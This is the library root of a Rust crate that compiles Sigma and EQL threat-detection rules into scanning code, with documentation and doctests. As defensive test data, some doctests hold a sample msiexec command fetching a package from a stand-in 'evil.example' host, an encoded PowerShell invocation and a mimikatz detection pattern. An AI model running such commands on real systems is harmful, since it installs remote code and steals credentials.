//! # detect
//!
//! Detection rules written as Rust macro input and compiled, at build time,
//! into plain functions that decide for each event which rules fire, without
//! interpreting anything or allocating on the way.
//!
//! ```
//! detect::rules! {
//!     /// The rules of this example.
//!     pub ruleset Example;
//!
//!     /// msiexec started with a web address as parameter.
//!     #[id = "f7b5f842-a6af-4da5-9e8e-43cdc8ecab3f"]
//!     #[title = "MsiExec Web Install"]
//!     #[level(medium)]
//!     #[tags(attack.defense_evasion, attack.t1218.007)]
//!     #[logsource(product = windows, category = process_creation)]
//!     rule msiexec_web_install {
//!         selection: { CommandLine: "* msiexec*://*" },
//!         condition: selection,
//!     }
//! }
//!
//! use detect::JsonEvent;
//! // Optional: build the prefilter automata and regexes now rather than
//! // during the first events (a sensor does this at start-up).
//! Example::warm_up();
//! let event = JsonEvent::parse_str(r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
//!     "CommandLine": "cmd.exe /c msiexec /q /i https://evil.example/x.msi"}"#).unwrap();
//! let mut hits = Vec::new();
//! Example::scan(&event, |rule| hits.push(rule.name));
//! assert_eq!(hits, ["msiexec_web_install"]);
//! ```
//!
//! The generated type has `scan` (above), `scan_unfiltered` (the same
//! verdicts without routing or prefilter, for tests), `warm_up`, `RULES`
//! (metadata), `rule(name)`, `ir()` (the rules as data, for the reference
//! interpreter) and, for sequence rules, `sequences(capacity)`.
//!
//! # The rule language
//!
//! A `rules!` block names the type to generate (`pub ruleset Name;`), then
//! lists rules. A rule reads like a Sigma rule: named **selections** and a
//! **condition** over them, with metadata as attributes.
//!
//! ## Metadata
//!
//! | attribute | meaning |
//! |---|---|
//! | `/// text` | description (doc comments) |
//! | `#[id = "uuid"]`, `#[title = "..."]`, `#[author = "..."]`, `#[date = "..."]`, `#[modified = "..."]` | as in Sigma; the title defaults to the rule's name |
//! | `#[level(low)]` | informational, low, medium (default), high, critical |
//! | `#[status(test)]` | stable, test, experimental, deprecated, unsupported |
//! | `#[tags(attack.execution, attack.t1059.001)]` | tags |
//! | `#[references("https://...")]`, `#[falsepositives("...")]` | lists of strings |
//! | `#[logsource(product = windows, category = process_creation)]` | which events the rule sees (`service = sysmon`, ...) |
//! | `#[fields(ecs)]` | field names are ECS (`process.command_line`) rather than Sigma's Windows names |
//!
//! ## Selections
//!
//! * `name: { Field: value, Field|modifier: value, ... }`: all entries must hold (AND);
//! * `name: [{ ... }, { ... }]`: any of the maps (OR);
//! * `name: ["keyword", ...]`: keyword search, any value anywhere in the event
//!   contains one of the keywords;
//! * `{ |all: ["a", "b"] }`: an entry without a field is a keyword entry too.
//!
//! Field names are identifiers, dotted paths (`process.parent.name`) or string
//! literals (`"Some Field"`). Values are strings, numbers, `true`/`false` or
//! `null`, or a list `[a, b]` (any of them; every one of them with `|all`).
//! Strings are Sigma strings: `*` and `?` are wildcards and `\*`, `\?`, `\\`
//! escape them; any other backslash is literal, so raw strings (`r"\cmd.exe"`)
//! copy values from YAML verbatim.
//!
//! ```
//! detect::rules! {
//!     pub ruleset Selections;
//!
//!     #[logsource(product = windows, category = process_creation)]
//!     rule encoded_powershell {
//!         selection_img: [
//!             { Image|endswith: [r"\powershell.exe", r"\pwsh.exe"] },
//!             { OriginalFileName: ["PowerShell.EXE", "pwsh.dll"] },
//!         ],
//!         selection_cli: { CommandLine|windash|contains: [" -enc ", " -encodedcommand "] },
//!         filter_main_system: { User|contains: ["AUTHORI", "AUTORI"] },
//!         condition: all of selection_* and not 1 of filter_main_*,
//!     }
//! }
//! use detect::JsonEvent;
//! let ev = JsonEvent::parse_str(r#"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,
//!   "Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
//!   "CommandLine":"powershell /ENC SQBFAFgA","User":"CORP\\alice"}"#).unwrap();
//! let mut n = 0;
//! Selections::scan(&ev, |_| n += 1);
//! assert_eq!(n, 1);
//! ```
//!
//! ## Modifiers
//!
//! `contains`, `startswith`, `endswith`, `all`, `cased`, `neq`, `exists`,
//! `re` (with `i`, `m`, `s`), `cidr`, `gt`/`gte`/`lt`/`lte`, `fieldref`,
//! `base64`, `base64offset`, `wide`/`utf16le`/`utf16be`/`utf16`, `windash`,
//! `expand` (with `placeholder name = ["..."];` items), and the time
//! components `minute`, `hour`, `day`, `week`, `month`, `year`. Their meaning is
//! documented in [`sigma`]; encodings and `windash` are expanded
//! at compile time into literals.
//!
//! ```
//! detect::rules! {
//!     pub ruleset Modifiers;
//!     placeholder admins = ["root", "Administrator"];
//!
//!     rule many {
//!         encoded: { CommandLine|wide|base64offset|contains: "http://" },
//!         private_dst: { DestinationIp|cidr: ["10.0.0.0/8", "192.168.0.0/16"] },
//!         high_port: { DestinationPort|gte: 49152 },
//!         admin: { User|expand: "%admins%" },
//!         same_parent: { Image|fieldref: "ParentImage" },
//!         suspicious_re: { CommandLine|re|i: r"\bmimi(katz)?\b" },
//!         condition: 1 of them,
//!     }
//! }
//! use detect::JsonEvent;
//! let ev = JsonEvent::parse_str(r#"{"DestinationPort": 50000}"#).unwrap();
//! let mut n = 0;
//! Modifiers::scan(&ev, |_| n += 1);
//! assert_eq!(n, 1);
//! ```
//!
//! ## Conditions
//!
//! `and`, `or`, `not`, parentheses, `1 of pattern`, `all of pattern`,
//! `1 of them`, `all of them` (names starting with `_` are not part of
//! `them`). Precedence from loosest: `or`, `and`, `not`.
//!
//! ## EQL event queries
//!
//! `rule name = eql!(r#"..."#);` is a rule written as an EQL event query,
//! verbatim (the syntax and its subset are documented in the `detect-eql` crate). It becomes a
//! stateless rule like any other: the same metadata attributes (but no
//! `#[logsource]` or `#[fields]`: the query names its category and fields),
//! the same log source dispatch, prefilter and `scan`. The category test
//! (`process where`) is part of the rule: `event.category` in the default
//! Elasticsearch dialect (ECS field names; `:` case-insensitive with `*` and
//! `?` wildcards, `==` case-sensitive and literal, `in~` case-insensitive).
//! `eql!(dialect = endgame, "...")` selects the endgame `eql` engine's
//! dialect instead: field names as written, category in `event_type`, `==`
//! case-insensitive with `*` as its only wildcard (`?` is literal), and
//! three-valued `not`. The text is parsed when the crate compiles: a syntax
//! error or an unsupported feature is a compile error that quotes the query
//! line with carets under the offending token.
//!
//! ```
//! detect::rules! {
//!     pub ruleset Eql;
//!
//!     /// msiexec started with `/V` (Elastic Defend events).
//!     #[level(low)]
//!     rule msiexec_v = eql!(r#"process where process.name : "msiexec.exe" and process.args : "/V""#);
//!
//!     /// The same test in the endgame dialect, over its flat events.
//!     rule msiexec_endgame = eql!(dialect = endgame, r#"process where process_name == "MSIEXEC.EXE" and command_line == "* /V*""#);
//! }
//!
//! use detect::JsonEvent;
//! let ecs = JsonEvent::parse_str(r#"{"event": {"category": ["process"]},
//!     "process": {"name": "MsiExec.exe", "args": ["msiexec.exe", "/V"]}}"#).unwrap();
//! let endgame = JsonEvent::parse_str(r#"{"event_type": "process", "process_name": "msiexec.exe",
//!     "command_line": "msiexec.exe /V"}"#).unwrap();
//! let mut hits = Vec::new();
//! Eql::scan(&ecs, |rule| hits.push(rule.name));
//! Eql::scan(&endgame, |rule| hits.push(rule.name));
//! assert_eq!(hits, ["msiexec_v", "msiexec_endgame"]);
//! ```
//!
//! A sequence query (below) can be written `sequence name = eql!(...)` too,
//! in either dialect: an endgame sequence joins as the endgame engine does
//! ([`ir::Joins::Endgame`]: a missing or null key joins another, keys
//! compare case-insensitively, the first of several values is the key, and
//! an event older than a pending sequence's last event still advances it).
//! Its events carry their time in `timestamp` (100 ns ticks since 1601):
//! give it to `step_at` in milliseconds.
//!
//! ```
//! detect::rules! {
//!     pub ruleset Endgame;
//!
//!     /// A process, then a file it wrote, joined by process id.
//!     sequence process_then_file = eql!(dialect = endgame, r#"
//!         sequence [process where opcode == 1] by unique_pid
//!                  [file where opcode == 0] by unique_pid"#);
//! }
//!
//! use detect::JsonEvent;
//! // The lines and their `timestamp`s (the endgame engine's 100 ns ticks).
//! let events = [
//!     (r#"{"event_type": "process", "opcode": 1, "unique_pid": "{AB-1}"}"#, 131485997150000000_i64),
//!     (r#"{"event_type": "file", "opcode": 0, "unique_pid": "{ab-1}"}"#, 131485997160000000),
//! ];
//! let mut state = Endgame::sequences(64);
//! let mut done = Vec::new();
//! for (pos, (line, ticks)) in events.iter().enumerate() {
//!     let event = JsonEvent::parse_str(line).unwrap();
//!     state.step_at(&event, ticks / 10_000, pos as u64, |rule, events| {
//!         done.push((rule.name, events.to_vec()))
//!     });
//! }
//! assert_eq!(done, [("process_then_file", vec![0, 1])]);
//! ```
//!
//! ## Sequences
//!
//! `sequence name = r#"..."#;` takes an EQL sequence query (Elasticsearch
//! dialect: `:` is a case-insensitive wildcard match, `==` is case-sensitive;
//! ECS field names), parsed at compile time. The macro generates a second
//! type, `<Name>Sequences`, holding one bounded table of pending sequences per
//! rule; feed it events in time order (`step`: their `@timestamp`, RFC 3339
//! or epoch milliseconds; `step_at`: a time in milliseconds that the caller
//! gives) and it reports each completed sequence with the positions of its
//! events. `eql!(dialect = endgame, ...)` gives a sequence the endgame
//! engine's joins (above). Memory is fixed when the state is created: beyond `capacity`
//! pending sequences per rule the oldest is evicted and counted.
//!
//! ```
//! detect::rules! {
//!     pub ruleset Chains;
//!
//!     /// A process started, then connected out, within 10 seconds.
//!     #[level(high)]
//!     sequence start_then_connect = r#"
//!         sequence by process.entity_id with maxspan=10s
//!           [process where event.action == "start" and process.name : "*.exe"]
//!           [network where event.action == "connection_attempted"]
//!     "#;
//! }
//!
//! use detect::JsonEvent;
//! let mut state = Chains::sequences(1024);
//! let mut done = Vec::new();
//! for (line, json) in [
//!     r#"{"@timestamp": "2024-05-01T10:00:00Z", "event": {"category": "process", "action": "start"}, "process": {"name": "x.exe", "entity_id": "p1"}}"#,
//!     r#"{"@timestamp": "2024-05-01T10:00:04Z", "event": {"category": "network", "action": "connection_attempted"}, "process": {"entity_id": "p1"}}"#,
//! ].iter().enumerate() {
//!     let event = JsonEvent::parse_str(json).unwrap();
//!     state.step(&event, line as u64 + 1, |rule, lines| done.push((rule.name, lines.to_vec())));
//! }
//! assert_eq!(done, [("start_then_connect", vec![1, 2])]);
//! assert_eq!(state.stats(0).completed, 1);
//! ```
//!
//! ## Sigma YAML
//!
//! [`sigma_rules!`] compiles a folder (or file) of Sigma rules, read at build
//! time relative to the calling crate's manifest, into the same kind of type:
//! `detect::sigma_rules! { pub ruleset Pack = "rules/windows", skip_unsupported; }`.
//! The `detect-sigmahq` crate compiles the SigmaHQ windows corpus this way.
//! `, pipeline = "acme.yml"` first applies a processing pipeline (your own
//! field names and log sources; the format is documented in the
//! `detect_sigma::pipeline` module), the same file `detect scan --sigma DIR
//! --pipeline acme.yml` takes at run time.
//!
//! ## Mistakes are compile errors
//!
//! An unknown modifier, a selection missing from the condition, an invalid
//! regex, conflicting modifiers or an empty selection stop the build with an
//! error on the offending token:
//!
//! ```compile_fail
//! detect::rules! {
//!     pub ruleset Broken;
//!     rule typo {
//!         selection: { Image|endwith: r"\cmd.exe" }, // error: unknown modifier `endwith`; did you mean `endswith`?
//!         condition: selection,
//!     }
//! }
//! ```
//!
//! # Events
//!
//! Rules read events through the [`Event`] trait: [`JsonEvent`] parses NDJSON
//! lines in any of the three [`Layout`]s (flat Windows fields, the `evtx`
//! crate's nested rendering, ECS) and a sensor can implement [`Event`] on its
//! own structs. Rule fields are mapped to each layout at compile time; a
//! rule's log source becomes conditions on the event's channel and event ID.
//!
//! # What else is here
//!
//! * [`ir`]: the rules as data, what every front end produces (`Name::ir()`);
//! * [`interpreter`]: the slow, obviously correct reference evaluator of the
//!   IR, against which generated code is tested;
//! * [`runtime`]: rule sets compiled at run time (Sigma files loaded by a
//!   running program) into the same engine, and [`runtime::SharedRuleSet`]
//!   to swap them while other threads scan;
//! * [`correlation`]: the bounded sliding windows of Sigma correlation rules;
//! * [`sigma`]: the meaning of Sigma's detection items and modifiers.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

/// ```
/// use detect::{Event, JsonEvent, Layout, Single, Value};
/// let event = JsonEvent::parse_str(r#"{"Image": "C:\\x.exe", "EventID": 1}"#).unwrap();
/// assert_eq!(event.layout(), Layout::Flat);
/// assert_eq!(event.single("Image"), Single::One(Value::Str("C:\\x.exe")));
/// assert_eq!(event.single("User"), Single::Absent);
/// ```
pub use detect_core::event::{Event, Single, Value, json::JsonEvent};

/// ```
/// use detect::Layout;
/// assert_eq!(Layout::ALL.map(Layout::as_str), ["flat", "evtx", "ecs"]);
/// ```
pub use detect_core::layout::Layout;

/// ```
/// detect::rules! {
///     pub ruleset Pack;
///
///     /// whoami started.
///     #[level(low)]
///     #[logsource(product = windows, category = process_creation)]
///     rule whoami {
///         selection: { Image|endswith: r"\whoami.exe" },
///         condition: selection,
///     }
/// }
///
/// use detect::{CompiledRuleSet, JsonEvent, RuleInfo};
/// // Code generic over any generated rule set.
/// fn names<R: CompiledRuleSet>(event: &JsonEvent) -> Vec<&'static str> {
///     let mut hits = Vec::new();
///     R::scan(event, |rule: &RuleInfo| hits.push(rule.name));
///     hits
/// }
/// let event = JsonEvent::parse_str(r#"{"Channel": "Security", "EventID": 4688,
///     "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}"#).unwrap();
/// assert_eq!(names::<Pack>(&event), ["whoami"]);
/// let rule = Pack::rule("whoami").unwrap();
/// assert_eq!(rule.description, Some("whoami started."));
/// assert_eq!(rule.logsource.category, Some("process_creation"));
/// ```
pub use detect_core::ruleset::{CompiledRuleSet, LogSourceInfo, RuleInfo};
pub use detect_macros::{rules, sigma_rules};

/// Pending sequences of a rule set and their counters: the state a
/// generated `<Name>Sequences` type wraps (it dereferences to
/// [`SequenceState`]), and the [`SequenceStats`] it reports per rule.
///
/// ```
/// detect::rules! {
///     pub ruleset Chains;
///     sequence start_then_connect = r#"
///         sequence by process.entity_id with maxspan=10s
///           [process where event.action == "start"]
///           [network where event.action == "connection_attempted"]
///     "#;
/// }
/// use detect::{JsonEvent, SequenceStats};
/// let mut state = Chains::sequences(16);
/// let start = JsonEvent::parse_str(r#"{"@timestamp": 1000, "event": {"category": "process",
///     "action": "start"}, "process": {"entity_id": "p1"}}"#).unwrap();
/// state.step(&start, 1, |_, _| unreachable!("one event is not a sequence"));
/// let stats: SequenceStats = state.stats(0);
/// assert_eq!((stats.started, stats.completed), (1, 0));
/// assert_eq!(state.pending(0), 1);
/// ```
pub use detect_core::{engine::SequenceState, sequence::SequenceStats};

pub use detect_core::compile::sigma;
pub use detect_core::{correlation, interpreter, ir, runtime};

/// Building blocks of detect that the workspace's benchmarks, fuzz targets,
/// tests and command-line tool reach into. **Not an API**: anything here may
/// change or disappear in any release.
#[doc(hidden)]
pub mod __internals {
    pub use detect_core::{
        compile, engine, event, layout, matcher, number, prefilter, rt, sequence,
    };
}

/// Runtime helpers for generated code. Not a public API.
#[doc(hidden)]
pub mod __rt {
    pub use detect_core::engine::{
        ChannelArms, DispatchTable, Engine, FieldAtoms, FnPredicates, NO_SOURCE, PrefilterTables,
        SequenceSpec, SequenceState, Tables, VariantTables,
    };
    pub use detect_core::matcher::GlobTok;
    pub use detect_core::rt::*;
}
